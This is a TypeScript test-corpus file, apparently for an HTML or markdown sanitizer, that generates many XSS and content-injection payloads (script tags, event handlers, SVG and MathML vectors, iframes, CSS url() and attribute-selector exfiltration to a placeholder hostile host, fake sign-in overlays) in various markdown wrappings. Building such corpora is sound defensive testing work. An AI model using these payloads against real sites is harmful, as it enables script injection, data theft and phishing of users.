import type { CorpusCase } from "@/tests/corpora/corpus-case";
import { script, stranger } from "@/tests/corpora/hostile-addresses";

const scripts = [
  `<script>${script}</script>`,
  `<SCRIPT SRC=${stranger}x.js></SCRIPT>`,
  `<scr<script>ipt>${script}</scr</script>ipt>`,
  `<script\n>${script}</script\n>`,
  `<script/x>${script}</script>`,
  `"><script>${script}</script>`,
  `</textarea></title></style></noscript><script>${script}</script>`,
  `<svg><script>${script}</script></svg>`,
  `<svg><script href="${stranger}x.js"/></svg>`,
  `<math><script>${script}</script></math>`,
  `<!--><script>${script}</script>-->`,
  `<![CDATA[<script>${script}</script>]]>`,
  `<?xml-stylesheet href="javascript:${script}"?>`,
  `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  `<template><script>${script}</script></template>`,
];

const handlers = [
  ...["img src=x onerror", "svg onload", "body onload", "iframe onload", "video src=x onerror"],
  ...["details open ontoggle", "input autofocus onfocus", "marquee onstart", "object onerror"],
  ...["a href=# onclick", "div onpointerover", "style onload", "link rel=stylesheet onerror"],
  ...["audio src=x onerror", "select autofocus onfocus", "form onformdata", "p onbeforematch"],
].flatMap((tag) => [
  `<${tag}=${script}>`,
  `<${tag.replaceAll(" ", "/")}="${script}"/>`,
  `<${tag}=&#119;indow.didRun=1 `,
]);

const elements = [
  `<iframe src="${stranger}"></iframe>`,
  `<iframe srcdoc="<script>parent.${script}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.${script}&gt;">`,
  `<iframe src="javascript:parent.${script}">`,
  `<object data="${stranger}"></object>`,
  `<embed src="${stranger}">`,
  `<img src="${stranger}1.png" srcset="${stranger}2.png 2x">`,
  `<picture><source srcset="${stranger}1.png"><img src="${stranger}2.png"></picture>`,
  `<video src="${stranger}" poster="${stranger}1"></video>`,
  `<audio src="${stranger}" autoplay></audio>`,
  `<input type=image src="${stranger}">`,
  `<table background="${stranger}"><td background="${stranger}1">`,
  `<link rel=stylesheet href="${stranger}">`,
  `<link rel=preconnect href="${stranger}"><link rel=prefetch href="${stranger}1">`,
  `<meta http-equiv=refresh content="0;url=${stranger}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${script}">`,
  `<base href="${stranger}">`,
  `<form action="${stranger}"><button>Send</button></form>`,
  `<button formaction="javascript:${script}" form=message>x</button>`,
  `<a href="javascript:${script}" ping="${stranger}">x</a>`,
  `<a id=message name=message>clobbered</a><form id=cookie>`,
  `<portal src="${stranger}">`,
  `<frameset><frame src="${stranger}"></frameset>`,
  `<applet code="${stranger}"></applet>`,
  `<bgsound src="${stranger}">`,
  `<dialog open><p>Sign in again</dialog>`,
];

const drawings = [
  `<svg><image href="${stranger}"/></svg>`,
  `<svg><use href="${stranger}#x"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${script}'/>#x"/></svg>`,
  `<svg><a href="javascript:${script}"><text>x</text></a></svg>`,
  `<svg><animate onbegin="${script}" attributeName=x dur=1s>`,
  `<svg><a><animate attributeName=href values="javascript:${script}"/><text>x</text></a></svg>`,
  `<svg><set attributeName=onmouseover to="${script}"/></svg>`,
  `<svg><foreignObject><img src=x onerror=${script}></foreignObject></svg>`,
  `<svg><feImage href="${stranger}"/></svg>`,
  `<svg><style>@import "${stranger}";</style></svg>`,
  `<svg><handler type="text/javascript">${script}</handler></svg>`,
  `<math href="javascript:${script}">x</math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${script}></style></mglyph></table></mtext></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${script}></annotation-xml></math>`,
  `<math><maction actiontype="statusline#${stranger}" xlink:href="javascript:${script}">x</maction></math>`,
];

const styles = [
  `<style>body{background:url(${stranger})}</style>`,
  `<style>@import url(${stranger});</style>`,
  `<style>@font-face{font-family:x;src:url(${stranger})}*{font-family:x}</style>`,
  `<style>input[value^=a]{background:url(${stranger}a)}</style>`,
  `<p style="background:url(${stranger})">x</p>`,
  `<p style="background:u\\72l(${stranger})">x</p>`,
  `<p style="width:expression(${script});behavior:url(${stranger})">x</p>`,
  `<p style="position:fixed;inset:0;z-index:9999">Sign in again</p>`,
  `<xss style="-moz-binding:url(${stranger}x.xml#x)">`,
  `<li style="list-style:url(${stranger})">x`,
  `<div style="content:url(${stranger});mask:url(${stranger}#m)">x</div>`,
];

const wrappings: [string, (html: string) => string][] = [
  ["as a block", (html) => html],
  ["in a line", (html) => `before ${html} after`],
  ["in a list and a quote", (html) => `- a\n\n  ${html}\n\n> ${html}`],
  ["in a table", (html) => `| a | b |\n|---|---|\n| ${html.replaceAll("\n", " ")} | x |`],
  ["as code", (html) => `\`${html}\` and\n\n\`\`\`html\n${html}\n\`\`\`\n`],
  ["in an unfinished fence", (html) => `\`\`\`svg\n${html}`],
];

const families = { scripts, handlers, elements, drawings, styles };

/** Raw HTML of the families that OWASP's and cure53's lists are made of, wherever it can stand. */
export const hostileHtml: CorpusCase[] = Object.entries(families).flatMap(([family, pieces]) =>
  wrappings.flatMap(([place, wrap]) =>
    pieces.map((html) => ({ family: `HTML ${family}, ${place}`, markdown: wrap(html) })),
  ),
);
